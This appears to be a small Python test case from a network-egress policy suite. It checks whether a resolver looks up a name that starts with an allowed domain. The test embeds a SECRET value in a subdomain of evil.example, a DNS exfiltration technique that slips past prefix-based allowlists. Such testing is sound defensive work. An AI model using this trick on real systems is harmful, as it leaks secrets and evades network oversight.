# class: network
# rule: outbound_connectivity
# policy: names.yaml
# success: a name that begins with an allowed one is looked up
# proof: query
# needs: resolver
import socket

from attack import SECRET, attempt


@attempt
def ask():
    return socket.getaddrinfo("api.allowed.example." + SECRET + ".evil.example", 443)
